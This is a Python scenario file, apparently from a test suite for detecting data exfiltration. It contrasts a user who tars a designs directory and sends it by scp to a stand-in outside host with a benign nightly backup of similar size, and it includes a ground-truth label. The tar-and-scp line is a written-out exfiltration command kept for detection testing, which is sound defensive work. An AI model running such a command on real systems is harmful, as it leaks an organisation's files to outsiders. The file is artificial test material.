"""An archive sent away with scp, by the person's own key that the laptop's agent lends."""

from __future__ import annotations

from ..props import DESIGN_BYTES, designs, upload
from ..scenario import BACKUP, STRANGER, Person, Scenario, Step, Truth
from ..twins import Draw


def _twin(draw: Draw) -> tuple[Step, ...]:
    count = draw.number(DESIGN_BYTES, 1000, DESIGN_BYTES)
    pack = f"head -c {count} /srv/designs/board.bin | gzip > /srv/nightly.gz"
    return (Step(None, f"{pack} && {upload('/srv/nightly.gz', BACKUP)}", host="app"),)


SCENARIO = Scenario(
    number=1,
    title="tar, then scp to a server outside",
    people=(Person("dora", ("app",)),),
    prepared=(designs("app"),),
    steps=(Step("dora", f"ssh dora@app 'tar czf s.tgz -C /srv designs && scp -q s.tgz drop@{STRANGER}:'"),),
    twin_title="root's nightly job sends as much to the backup host",
    twin=_twin,
    truth=Truth("dora", ("app",), ("upload-new-destination",), DESIGN_BYTES, STRANGER),
)
